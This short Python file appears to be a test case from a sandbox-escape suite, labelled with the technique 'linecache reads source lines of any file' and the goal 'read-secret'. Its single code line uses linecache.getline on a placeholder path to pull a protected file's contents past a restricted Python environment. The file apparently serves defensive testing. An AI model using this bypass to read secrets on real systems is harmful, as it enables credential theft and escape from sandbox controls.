# technique: linecache reads source lines of any file
# goal: read-secret
# source: safelite re-pointed linecache.open
import linecache
print(linecache.getline('@SECRET@', 1))
